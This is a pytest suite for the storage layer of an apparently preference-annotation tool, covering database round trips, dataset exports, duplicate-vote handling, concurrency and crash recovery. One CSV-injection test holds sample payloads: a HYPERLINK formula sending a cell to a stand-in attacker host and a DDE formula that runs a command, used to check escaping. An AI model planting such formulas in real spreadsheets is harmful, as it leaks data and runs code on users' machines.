"""storage: every table, exports, migrations, concurrency and crashes, on SQLite and PostgreSQL."""

import json
import multiprocessing as mp
import os
import signal
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy.exc import IntegrityError

from storage.db import StorageError, open_engine, upgrade_to
from storage.export import export
from storage.store import JudgmentFilter, Store

from .storage_helpers import PG_ENV, gen_record, new_postgres_db


@pytest.fixture
def store(db_url):  # db_url (tests/conftest.py): a new database, once on SQLite and once on PostgreSQL
    s = Store(db_url)
    yield s
    s.close()


def seed_judgments(store):
    """Four judgments with known verdicts; returns their ids."""
    ms = store.register_model_set("demo", {"base": {"path": "b"}, "objectives": {"helpfulness": {"path": "h"}}})
    ids = []
    for i, (verdict, per_obj, who) in enumerate([
        ("A", {"helpfulness": "A", "harmlessness": "B"}, "ann"),
        ("B", {"helpfulness": "B"}, "bob"),
        ("tie", {"harmlessness": "A"}, "ann"),
        ("both_bad", {}, "ann"),
    ]):
        a, b = store.add_generations([
            gen_record(prompt=f"prompt {i} <script>", completion=f"aligned {i}", model_set_id=ms),
            gen_record(prompt=f"prompt {i} <script>", completion=f"base {i}", method="base", weights={}, model_set_id=ms),
        ])
        ids.append(store.add_judgment(a, b, verdict, per_obj, annotator=who, comment="c", blind=i % 2 == 0, swapped=i == 1))
    return ids


def test_every_table_round_trips(store):
    spec = {"base": {"path": "x", "revision": "abc"}, "objectives": {"helpfulness": {"path": "y", "adapter": "z"}}}
    ms = store.register_model_set("demo", spec)
    assert store.register_model_set("demo", spec) == ms  # same spec, same row
    trace = [{"id": 5, "text": "hi", "logprob": -0.1, "base_logprob": -0.5, "arm_logprobs": {"helpfulness": -0.2}}]
    sweep = store.create_sweep("grid", {"grid": [[0, 0], [1, 0]]})
    gid = store.add_generation(**gen_record(model_set_id=ms, trace=trace, sweep_id=sweep,
                                            scores={"helpfulness": float("nan"), "harmlessness": -1.0},
                                            prompt_messages=[{"role": "user", "content": "What is 2+2?"}]))
    g = store.generation(gid)
    assert g["trace"] == trace and g["weights"] == {"helpfulness": 1.0, "harmlessness": 0.5}
    assert g["scores"] == {"helpfulness": None, "harmlessness": -1.0}  # NaN stored as null (PostgreSQL refuses NaN in JSON)
    assert g["prompt_messages"][0]["content"] == "What is 2+2?" and g["sweep_id"] == sweep and g["model_set_id"] == ms
    frame = store.generations_frame(sweep_id=sweep)
    assert list(frame["id"]) == [gid] and frame.loc[0, "w_helpfulness"] == 1.0 and frame.loc[0, "model_set"] == "demo"
    other = store.add_generation(**gen_record(completion="5", method="base", weights={}))
    jid = store.add_judgment(gid, other, "A", {"helpfulness": "A", "harmlessness": "B"}, annotator="ann", comment="ok",
                             blind=True, swapped=True)
    j = store.judgments_frame().iloc[0]
    assert (j.judgment_id, j.verdict, j.verdict_helpfulness, j.verdict_harmlessness) == (jid, "A", "A", "B")
    assert bool(j.blind) and bool(j.swapped) and j.annotator == "ann" and j.comment == "ok"
    store.save_preset("safe", {"harmlessness": 2.0})
    store.save_preset("safe", {"harmlessness": 1.5})
    assert store.presets() == {"safe": {"harmlessness": 1.5}}
    store.delete_preset("safe")
    assert store.presets() == {}
    assert store.counts() == {"model_sets": 1, "generations": 2, "judgments": 1, "objective_verdicts": 2, "judgment_history": 0,
                              "studies": 0, "judge_scores": 0, "judge_verdicts": 0, "presets": 0, "sweeps": 1}


def test_bad_judgments_are_refused(store):
    a = store.add_generation(**gen_record())
    b = store.add_generation(**gen_record(completion="5"))
    c = store.add_generation(**gen_record(prompt="another prompt"))
    with pytest.raises(ValueError, match="verdict"):
        store.add_judgment(a, b, "A is better")
    with pytest.raises(ValueError, match="different prompts"):
        store.add_judgment(a, c, "A")
    with pytest.raises(ValueError, match="no generation"):
        store.add_judgment(a, 999, "A")
    with pytest.raises(ValueError, match="two different"):
        store.add_judgment(a, a, "A")
    assert store.counts()["judgments"] == 0


def test_exports_have_the_expected_content(store, tmp_path):
    seed_judgments(store)
    s = export(store, "trl", tmp_path / "pairs.jsonl")
    rows = [json.loads(l) for l in (tmp_path / "pairs.jsonl").read_text().splitlines()]
    assert rows == [{"prompt": "prompt 0 <script>", "chosen": "aligned 0", "rejected": "base 0"},
                    {"prompt": "prompt 1 <script>", "chosen": "base 1", "rejected": "aligned 1"}]
    path = str(tmp_path / "pairs.jsonl")
    assert s.pairs[path] == 2 and s.ties[path] == 1 and s.both_bad[path] == 1
    harm = [json.loads(l) for l in (tmp_path / "pairs.harmlessness.jsonl").read_text().splitlines()]
    assert [r["chosen"] for r in harm] == ["base 0", "aligned 2"]
    helpf = [json.loads(l) for l in (tmp_path / "pairs.helpfulness.jsonl").read_text().splitlines()]
    assert [r["chosen"] for r in helpf] == ["aligned 0", "base 1"]

    export(store, "trl-conversational", tmp_path / "conv.jsonl", JudgmentFilter(objective="harmlessness"))
    conv = [json.loads(l) for l in (tmp_path / "conv.jsonl").read_text().splitlines()]
    assert conv[0] == {"prompt": [{"role": "user", "content": "prompt 0 <script>"}],
                       "chosen": [{"role": "assistant", "content": "base 0"}],
                       "rejected": [{"role": "assistant", "content": "aligned 0"}]}

    export(store, "trl", tmp_path / "pairs.parquet", JudgmentFilter(annotator="bob"))
    import pyarrow.parquet as pq
    assert pq.read_table(tmp_path / "pairs.parquet").to_pylist() == [{"prompt": "prompt 1 <script>", "chosen": "base 1", "rejected": "aligned 1"}]

    export(store, "csv", tmp_path / "j.csv")
    import pandas as pd
    csv = pd.read_csv(tmp_path / "j.csv")
    assert list(csv["verdict"]) == ["A", "B", "tie", "both_bad"]
    assert {"setting_a", "weights_a", "temperature_b", "verdict_harmlessness", "annotator", "blind", "swapped"} <= set(csv.columns)
    assert json.loads(csv.loc[0, "weights_a"]) == {"harmlessness": 0.5, "helpfulness": 1.0}

    export(store, "battles", tmp_path / "b.jsonl")
    battles = [json.loads(l) for l in (tmp_path / "b.jsonl").read_text().splitlines()]
    assert [b["winner"] for b in battles] == ["model_a", "model_b", "tie", "tie (bothbad)"]
    assert battles[0]["model_a"] == "genarm harmlessness=0.5 helpfulness=1" and battles[0]["model_b"] == "base"
    assert battles[0]["objective_winners"] == {"helpfulness": "model_a", "harmlessness": "model_b"}


def test_filters_and_settings_as_data(store):
    seed_judgments(store)
    assert len(store.judgments_frame(JudgmentFilter(annotator="ann"))) == 3
    assert len(store.judgments_frame(JudgmentFilter(objective="helpfulness"))) == 2
    assert len(store.judgments_frame(JudgmentFilter(model_set="other"))) == 0
    from datetime import datetime, timedelta, timezone
    assert len(store.judgments_frame(JudgmentFilter(since=datetime.now(timezone.utc) + timedelta(days=1)))) == 0
    row = store.judgments_frame().iloc[0]
    assert row.setting_a == {"method": "genarm", "weights": {"harmlessness": 0.5, "helpfulness": 1.0}, "n": 1}
    assert row.setting_b == {"method": "base", "weights": {}, "n": 1} and row.weights_a["helpfulness"] == 1.0


def test_a_vote_sent_again_is_stored_once(store):
    a, b = store.add_generations([gen_record(), gen_record(completion="5")])
    first = store.add_judgment(a, b, "A", annotator="x", idempotency_key="page-1:pair-7")
    again = store.add_judgment(a, b, "A", annotator="x", idempotency_key="page-1:pair-7")
    assert first == again and store.counts()["judgments"] == 1
    c, d = store.add_generations([gen_record(), gen_record(completion="6")])
    with pytest.raises(ValueError, match="already used"):
        store.add_judgment(c, d, "B", annotator="x", idempotency_key="page-1:pair-7")
    assert store.add_judgment(c, d, "B") != first and store.counts()["judgments"] == 2


def test_a_key_belongs_to_its_annotator(store):
    """bob sending alice's key (or carol's, first) neither reads, answers with nor blocks their votes:
    keys are unique per (annotator, key), and a conflict names the voter's own judgment only."""
    from storage.store import JudgmentExists

    a, b = store.add_generations([gen_record(), gen_record(completion="5")])
    alice = store.add_judgment(a, b, "B", annotator="alice", idempotency_key="api:a:b:alice")
    # bob with alice's key and her verdict: his own new judgment, not hers returned as if it were his
    bob = store.add_judgment(a, b, "B", annotator="bob", idempotency_key="api:a:b:alice")
    assert bob != alice
    # bob with alice's key and another verdict: no conflict message about her vote; it is his second vote
    with pytest.raises(JudgmentExists) as caught:
        store.add_judgment(a, b, "A", annotator="bob", idempotency_key="api:a:b:alice")
    assert caught.value.judgment_id == bob and "alice" not in str(caught.value)
    # bob squats carol's key first: carol's own vote with it is stored as hers
    store.add_judgment(a, b, "tie", annotator="bob2", idempotency_key="api:a:b:carol")
    carol = store.add_judgment(a, b, "A", annotator="carol", idempotency_key="api:a:b:carol")
    frame = store.judgments_frame().set_index("judgment_id")
    assert (frame.loc[carol, "annotator"], frame.loc[carol, "verdict"]) == ("carol", "A")
    assert (frame.loc[alice, "annotator"], frame.loc[alice, "verdict"]) == ("alice", "B")
    assert store.counts()["judgments"] == 4


def test_a_second_vote_with_other_content_is_refused_not_dropped(store):
    """The defect: an annotator's second vote on a pair was answered with the first vote's id and lost."""
    from storage.store import JudgmentExists

    a, b = store.add_generations([gen_record(), gen_record(completion="5")])
    first = store.add_judgment(a, b, "A", {"helpfulness": "A"}, annotator="ann", comment="c", idempotency_key="k1")
    # same key, same content: the stored judgment
    assert store.add_judgment(a, b, "A", {"helpfulness": "A"}, annotator="ann", comment="c", idempotency_key="k1") == first
    # same key, other content (verdict, per-objective verdict, or comment): refused, naming the stored judgment
    for verdict, per, comment in (("B", {"helpfulness": "A"}, "c"), ("A", {"helpfulness": "B"}, "c"), ("A", {"helpfulness": "A"}, "d")):
        with pytest.raises(JudgmentExists, match=rf"a judgment of this pair by annotator 'ann' exists \(#{first}.*edit judgment #{first}"):
            store.add_judgment(a, b, verdict, per, annotator="ann", comment=comment, idempotency_key="k1")
    # another key (another page) by the same annotator on the same pair, in either order: refused too
    with pytest.raises(JudgmentExists):
        store.add_judgment(b, a, "tie", annotator="ann", idempotency_key="k2")
    # another annotator may judge the same pair
    assert store.add_judgment(a, b, "B", annotator="bob") != first
    assert store.counts()["judgments"] == 2
    j = store.judgments_frame().set_index("judgment_id").loc[first]
    assert (j.verdict, j.verdict_helpfulness, j.comment) == ("A", "A", "c")


def test_an_edit_changes_the_verdict_and_keeps_the_earlier_one(store):
    a, b = store.add_generations([gen_record(), gen_record(completion="5")])
    jid = store.add_judgment(a, b, "A", {"helpfulness": "A", "harmlessness": "B"}, annotator="ann", comment="first")
    with pytest.raises(ValueError, match="is by 'ann'; only they can change it"):
        store.edit_judgment(jid, "B", annotator="bob")
    with pytest.raises(ValueError, match="no judgment with id 999"):
        store.edit_judgment(999, "B")
    with pytest.raises(ValueError, match="verdict must be one of"):
        store.edit_judgment(jid, "A wins")
    assert store.edit_judgment(jid, "B", annotator="ann") == jid  # per-objective verdicts and comment kept
    assert store.edit_judgment(jid, "B", annotator="ann") == jid  # nothing changed: no history row
    store.edit_judgment(jid, "tie", {"helpfulness": "tie"}, comment="second thoughts", annotator="ann")
    j = store.judgments_frame().set_index("judgment_id").loc[jid]
    assert (j.verdict, j.verdict_helpfulness, j.comment) == ("tie", "tie", "second thoughts")
    assert "verdict_harmlessness" not in j or not isinstance(j.verdict_harmlessness, str)
    assert j.updated_at is not None and store.counts()["judgments"] == 1
    history = store.judgment_history(jid)
    assert [(h["verdict"], h["objective_verdicts"], h["comment"]) for h in history] == [
        ("A", {"helpfulness": "A", "harmlessness": "B"}, "first"), ("B", {"helpfulness": "A", "harmlessness": "B"}, "first")]
    assert history[0]["replaced_at"] <= history[1]["given_at"] <= history[1]["replaced_at"]
    # After an edit, the same vote as the latest is the stored judgment; the old content is a conflict.
    assert store.add_judgment(a, b, "tie", {"helpfulness": "tie"}, annotator="ann", comment="second thoughts") == jid
    from storage.store import JudgmentExists
    with pytest.raises(JudgmentExists):
        store.add_judgment(a, b, "A", {"helpfulness": "A", "harmlessness": "B"}, annotator="ann", comment="first")


def _racing_voter(db_url, a, b, verdict, key, ready, q):
    from storage.store import JudgmentExists

    s = Store(db_url)
    s.counts()  # connected: the store has read the database
    ready.wait()  # every voter (and the test) is here: all vote at once
    try:
        q.put(("stored", s.add_judgment(a, b, verdict, annotator="racer", idempotency_key=key)))
    except JudgmentExists as exc:
        q.put(("exists", exc.judgment_id))
    s.close()


def test_concurrent_votes_on_one_key_store_one_and_refuse_the_others(db_url):
    """Eight processes send the same key at once, half with another verdict: one judgment is stored; the
    same-content votes get its id, the others are refused naming it. Nothing is acknowledged and lost."""
    store = Store(db_url)
    a, b = store.add_generations([gen_record(), gen_record(completion="5")])
    ctx = mp.get_context("spawn")
    verdicts = ["A", "B"] * 4
    q, ready = ctx.Queue(), ctx.Barrier(len(verdicts) + 1)  # the voters and this test
    procs = [ctx.Process(target=_racing_voter, args=(db_url, a, b, v, "same-key", ready, q)) for v in verdicts]
    for p in procs:
        p.start()
    ready.wait(timeout=300)  # every process has imported and opened its store: they vote together now
    answers = [q.get(timeout=120) for _ in procs]
    for p in procs:
        p.join(timeout=60)
        assert p.exitcode == 0
    stored = store.judgments_frame()
    assert len(stored) == 1
    jid, winner = int(stored.iloc[0].judgment_id), stored.iloc[0].verdict
    assert all(i == jid for _, i in answers)
    assert sorted(kind for kind, _ in answers) == ["exists"] * 4 + ["stored"] * 4  # the winner's 4 repeats, the rest refused
    assert winner in ("A", "B")
    store.close()


def test_export_loads_in_datasets(store, tmp_path):
    from datasets import load_dataset

    seed_judgments(store)
    export(store, "trl", tmp_path / "p.jsonl")
    export(store, "trl-conversational", tmp_path / "c.jsonl")
    ds = load_dataset("json", data_files=str(tmp_path / "p.jsonl"), split="train")
    assert ds.column_names == ["prompt", "chosen", "rejected"] and len(ds) == 2
    conv = load_dataset("json", data_files=str(tmp_path / "c.jsonl"), split="train")
    assert conv[0]["chosen"] == [{"role": "assistant", "content": "aligned 0"}]


def test_csv_cells_that_start_a_formula_are_escaped_and_the_other_formats_keep_the_text(store, tmp_path):
    """OWASP's CSV injection advice for the CSV export only; train-arm reads the escaped file back as it was."""
    import csv

    from genarm_core.training.data import load_pairs

    link = '=HYPERLINK("https://evil.example/?d="&B2,"x")'
    prompt = "=cmd|' /C calc'!A0"
    a, b = store.add_generations([gen_record(prompt=prompt, completion="+1 safe"), gen_record(prompt=prompt, completion="-2")])
    store.add_judgment(a, b, "A", annotator="@eve", comment=link)
    export(store, "csv", tmp_path / "j.csv")
    with open(tmp_path / "j.csv", newline="", encoding="utf-8") as fh:
        row = next(csv.DictReader(fh))
    assert (row["comment"], row["annotator"], row["prompt"]) == ("'" + link, "'@eve", "'" + prompt)
    assert (row["completion_a"], row["completion_b"]) == ("'+1 safe", "'-2")
    assert '"\'=HYPERLINK' in (tmp_path / "j.csv").read_text()  # text cells are quoted too
    for value in ("\tTAB", "\rCR"):
        assert csv_safe_cell(value) == "'" + value
    pairs, _ = load_pairs(tmp_path / "j.csv", "dashboard")
    assert (pairs[0].prompt, pairs[0].chosen, pairs[0].rejected) == (prompt, "+1 safe", "-2")
    export(store, "trl", tmp_path / "t.jsonl")
    trl = json.loads((tmp_path / "t.jsonl").read_text().splitlines()[0])
    assert trl["prompt"] == prompt and trl["chosen"] == "+1 safe"  # JSON keeps the text as it is


def csv_safe_cell(value):
    import pandas as pd

    from storage.export import csv_safe

    return csv_safe(pd.DataFrame({"c": [value]}))["c"][0]


def test_an_hf_export_of_no_judgments_loads_with_the_full_schema(store, tmp_path):
    import datasets

    export(store, "hf", tmp_path / "empty")
    ds = datasets.load_from_disk(str(tmp_path / "empty"))
    assert ds.num_rows == 0 and {"prompt", "completion_a", "completion_b", "verdict", "annotator", "skipped"} <= set(ds.column_names)
    seed_judgments(store)
    export(store, "hf", tmp_path / "full")
    full = datasets.load_from_disk(str(tmp_path / "full"))
    assert set(ds.column_names) >= {c for c in full.column_names if not c.startswith("verdict_")}


def _writer(url, n, queue):
    s = Store(url)
    for i in range(n):
        a, b = s.add_generations([gen_record(prompt=f"p{os.getpid()}-{i}"), gen_record(prompt=f"p{os.getpid()}-{i}", completion="x")])
        queue.put(s.add_judgment(a, b, "A", {"helpfulness": "B"}, annotator=str(os.getpid())))
    s.close()


def test_concurrent_writers_lose_nothing(db_url):
    Store(db_url).close()  # create the schema first, as the app does on start
    ctx = mp.get_context("spawn")
    q = ctx.Queue()
    procs = [ctx.Process(target=_writer, args=(db_url, 15, q)) for _ in range(4)]
    for p in procs:
        p.start()
    acked = [q.get(timeout=120) for _ in range(60)]
    for p in procs:
        p.join(timeout=60)
        assert p.exitcode == 0
    s = Store(db_url)
    assert sorted(s.judgments_frame()["judgment_id"]) == sorted(acked)
    assert s.counts()["objective_verdicts"] == 60
    s.close()


CRASH_SCRIPT = """
import sys, time
from storage.store import Store
from tests.storage_helpers import gen_record
s = Store(sys.argv[1])
for i in range(5):
    gid = s.add_generation(**gen_record(prompt=f"acked {i}"))
    print(gid, flush=True)
from sqlalchemy.orm import Session
from storage.models import GenerationRow
with Session(s.engine) as sess, sess.begin():
    for i in range(200):
        sess.add(GenerationRow(**gen_record(prompt=f"never committed {i}")))
    sess.flush()
    print("in-transaction", flush=True)
    time.sleep(60)
"""


def test_crash_mid_transaction_keeps_acknowledged_rows(db_url, tmp_path):
    repo = Path(__file__).resolve().parents[1]
    proc = subprocess.Popen([sys.executable, "-c", CRASH_SCRIPT, db_url], cwd=repo, stdout=subprocess.PIPE, text=True)
    acked = []
    for line in proc.stdout:
        if line.strip() == "in-transaction":
            break
        acked.append(int(line))
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    if db_url.startswith("sqlite"):
        path = db_url.split("///", 1)[1]
        con = sqlite3.connect(path)
        assert con.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        con.close()
    s = Store(db_url)
    frame = s.generations_frame()
    assert sorted(frame["id"]) == sorted(acked) and not frame["prompt"].str.startswith("never").any()
    s.add_generation(**gen_record())  # and it is writable again
    s.close()


def test_upgrade_from_the_first_schema_keeps_rows(db_url):
    from sqlalchemy import text

    engine = open_engine(db_url, upgrade=False)
    upgrade_to(engine, "0001")
    with engine.begin() as c:
        c.execute(text("INSERT INTO generations (prompt, completion, method, weights, beta, temperature, top_k, top_p, "
                       "max_new_tokens, seed, settings, n_tokens, latency_s, finish_reason, scores, created_at) VALUES "
                       "('old prompt', 'old', 'genarm', '{}', 1, 1, 0, 1, 8, 0, '{}', 1, 0.1, 'eos', '{}', CURRENT_TIMESTAMP)"))
        c.execute(text("INSERT INTO generations (prompt, completion, method, weights, beta, temperature, top_k, top_p, "
                       "max_new_tokens, seed, settings, n_tokens, latency_s, finish_reason, scores, created_at) VALUES "
                       "('old prompt', 'older', 'base', '{}', 1, 1, 0, 1, 8, 0, '{}', 1, 0.1, 'eos', '{}', CURRENT_TIMESTAMP)"))
        c.execute(text("INSERT INTO judgments (generation_a_id, generation_b_id, verdict, annotator, comment, blind, swapped, "
                       "created_at) VALUES (1, 2, 'A', 'old', '', false, false, CURRENT_TIMESTAMP)"))
        assert "presets" not in __import__("sqlalchemy").inspect(c).get_table_names()
    engine.dispose()
    s = Store(db_url)  # upgrades on open
    assert s.counts()["judgments"] == 1 and s.judgments_frame().iloc[0]["completion_b"] == "older"
    # 0003 gave every old generation its setting as data.
    from sqlalchemy import text as sql

    with s.engine.connect() as c:
        settings = [r[0] for r in c.execute(sql("SELECT setting FROM generations ORDER BY id"))]
    settings = [json.loads(x) if isinstance(x, str) else x for x in settings]
    assert settings == [{"method": "genarm", "weights": {}, "n": 1}, {"method": "base", "weights": {}, "n": 1}]
    s.save_preset("p", {"x": 1.0})
    assert s.presets() == {"p": {"x": 1.0}}
    s.close()


def test_foreign_or_damaged_files_are_refused_and_untouched(tmp_path):
    text_file = tmp_path / "notes.db"
    text_file.write_text("my precious notes")
    with pytest.raises(StorageError, match="not a SQLite database"):
        Store(str(text_file))
    assert text_file.read_text() == "my precious notes"

    other = tmp_path / "other.db"
    con = sqlite3.connect(other)
    con.execute("CREATE TABLE customers (id INTEGER)")
    con.commit()
    con.close()
    before = other.read_bytes()
    with pytest.raises(StorageError, match="not a GenARM database"):
        Store(str(other))
    assert other.read_bytes() == before

    good = tmp_path / "good.db"
    Store(str(good)).close()
    data = bytearray(good.read_bytes())
    data[100:4096] = b"\xff" * (4096 - 100)  # wreck the schema page
    good.write_bytes(bytes(data))
    with pytest.raises(StorageError, match="damaged|integrity"):
        Store(str(good))
    assert good.read_bytes() == bytes(data)


def test_sqlite_pragmas(tmp_path):
    s = Store(str(tmp_path / "x.db"))
    with s.engine.connect() as c:
        assert c.exec_driver_sql("PRAGMA journal_mode").scalar() == "wal"
        assert c.exec_driver_sql("PRAGMA foreign_keys").scalar() == 1
        assert c.exec_driver_sql("PRAGMA busy_timeout").scalar() >= 5000
    s.close()


def test_default_location_follows_the_environment(tmp_path, monkeypatch):
    from storage.db import default_url

    monkeypatch.setenv("GENARM_DB", str(tmp_path / "env.db"))
    assert default_url() == f"sqlite:///{tmp_path / 'env.db'}"


def test_cli_export_and_stats(store, db_url, tmp_path):
    seed_judgments(store)
    run = subprocess.run([sys.executable, "-m", "storage", "export", "--db", db_url, "--format", "trl",
                          "--objective", "helpfulness", "--out", str(tmp_path / "h.jsonl")], capture_output=True, text=True)
    assert run.returncode == 0, run.stderr
    assert len((tmp_path / "h.jsonl").read_text().splitlines()) == 2
    stats = subprocess.run([sys.executable, "-m", "storage", "stats", "--db", db_url], capture_output=True, text=True)
    assert stats.returncode == 0 and "judgments" in stats.stdout
    # A read-only command on a database that is not there is an error, and creates nothing.
    missing = tmp_path / "no" / "such" / "dir" / "a.db"
    none = subprocess.run([sys.executable, "-m", "storage", "stats", "--db", f"sqlite:///{missing}"], capture_output=True,
                          text=True)
    assert none.returncode == 2 and "no database at" in none.stderr and not (tmp_path / "no").exists()
    # A plain path (no URL) that climbs out of a folder that is not there: the file it names, resolved.
    dotted = subprocess.run([sys.executable, "-m", "storage", "stats", "--db", str(tmp_path / "nope" / ".." / "x.txt")],
                            capture_output=True, text=True)
    assert dotted.returncode == 2 and "Traceback" not in dotted.stderr, dotted.stderr
    assert f"no database at {(tmp_path / 'x.txt').resolve()};" in dotted.stderr, dotted.stderr
    assert not (tmp_path / "x.txt").exists() and not (tmp_path / "nope").exists()
    (tmp_path / "junk.db").write_text("junk")
    bad = subprocess.run([sys.executable, "-m", "storage", "stats", "--db", str(tmp_path / "junk.db")], capture_output=True, text=True)
    assert bad.returncode == 2 and "not a SQLite database" in bad.stderr and "Traceback" not in bad.stderr
    assert (tmp_path / "junk.db").read_text() == "junk"


def test_storage_never_imports_torch():
    code = "import sys, storage.store, storage.export, storage.cli; print('torch' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=Path(__file__).resolve().parents[1])
    assert out.stdout.strip() == "False"


@pytest.mark.skipif(not os.environ.get(PG_ENV), reason=f"set {PG_ENV} to a PostgreSQL URL (.ci/run does)")
def test_a_postgres_outage_is_a_clear_error_and_the_store_recovers():
    """The server refuses connections for a while (as in a restart): writes and reads raise
    StorageError naming the database, never a driver traceback, and work again afterwards."""
    from sqlalchemy import create_engine, text
    from sqlalchemy.engine import make_url

    url, drop = new_postgres_db()
    name = make_url(url).database
    admin = create_engine(os.environ[PG_ENV], isolation_level="AUTOCOMMIT")
    store = Store(url)
    try:
        first = store.add_generation(**gen_record())
        with admin.connect() as c:
            c.execute(text(f'ALTER DATABASE "{name}" ALLOW_CONNECTIONS false'))
            c.execute(text(f"SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = '{name}'"))
        with pytest.raises(StorageError, match=f"could not write to the database .*{name}"):
            store.add_generation(**gen_record())
        with pytest.raises(StorageError, match="could not read from the database"):
            store.generations_frame()
        with admin.connect() as c:
            c.execute(text(f'ALTER DATABASE "{name}" ALLOW_CONNECTIONS true'))
        second = store.add_generation(**gen_record())
        assert list(store.generations_frame()["id"]) == [first, second]
    finally:
        store.close()
        admin.dispose()
        drop()


def test_study_tables_resume_by_cell_and_keep_one_score_per_judge(store):
    """A study is found again by what decides its completions; cells, judges' scores and verdicts are stored once."""
    key = {"model_set": "demo", "prompts": ["p"], "settings": [{"method": "base"}], "samples": 2, "seed": 0}
    sid, created = store.open_study("s", key, {**key, "judges": ["length"]})
    again, created_again = store.open_study("s", key, {**key, "judges": ["length", "rule"]})
    assert created and not created_again and again == sid and store.study(sid)["config"]["judges"] == ["length", "rule"]
    assert store.open_study("s", {**key, "seed": 1}, key)[0] != sid
    a, b = store.add_generations([gen_record(study_id=sid, cell="0/0/0"), gen_record(study_id=sid, cell="0/0/1", completion="5")])
    assert store.study_cells(sid) == {"0/0/0": a, "0/0/1": b}
    # the (study, cell) key: a cell is never stored twice (SQLite and PostgreSQL name it their own way)
    with pytest.raises(IntegrityError, match=r"UNIQUE constraint failed: generations\.study_id, generations\.cell"
                                             r"|uq_generations_study_cell"):
        store.add_generations([gen_record(study_id=sid, cell="0/0/0")])
    assert store.study_cells(sid) == {"0/0/0": a, "0/0/1": b}  # the refused batch left nothing behind
    assert store.add_judge_scores([{"generation_id": a, "judge": "len", "value": 3.0},
                                   {"generation_id": b, "judge": "len", "value": float("nan")}]) == 2
    assert store.add_judge_scores([{"generation_id": a, "judge": "len", "value": 9.0}]) == 0
    scores = store.judge_scores_frame(sid).set_index("generation_id")
    import pandas as pd
    assert scores.loc[a, "value"] == 3.0 and pd.isna(scores.loc[b, "value"])  # NaN is stored as NULL (PostgreSQL's JSON rule)
    assert store.scored([a, b], "len") == {a, b}
    assert store.add_judge_verdicts([{"study_id": sid, "judge": "llm", "generation_a_id": a, "generation_b_id": b,
                                      "verdict": "tie", "consistent": False}]) == 1
    assert store.add_judge_verdicts([{"study_id": sid, "judge": "llm", "generation_a_id": a, "generation_b_id": b,
                                      "verdict": "A"}]) == 0
    assert store.judge_verdicts_frame(sid).iloc[0].verdict == "tie"
    assert [s["cells"] for s in store.studies() if s["id"] == sid] == [2]


def test_battle_labels_name_a_methods_candidates():
    """The battles export's default setting names: a method with candidates names N (blockwise 4 and 8 differ)."""
    from storage.export import plain_label

    assert plain_label({"method": "blockwise", "n": 4, "weights": {"harmlessness": 1.0}}) == "blockwise4 harmlessness=1"
    assert plain_label({"method": "blockwise", "n": 8, "weights": {"harmlessness": 1.0}}) == "blockwise8 harmlessness=1"
    assert plain_label({"method": "best_of_n", "n": 4, "weights": {"a": 1.0}}) == "best_of_n4 a=1"
    assert plain_label({"method": "genarm", "n": 1, "weights": {"a": 1.0}}, 0.5) == "genarm a=1 beta=0.5"
    assert plain_label({"method": "base", "n": 1, "weights": {}}) == "base"
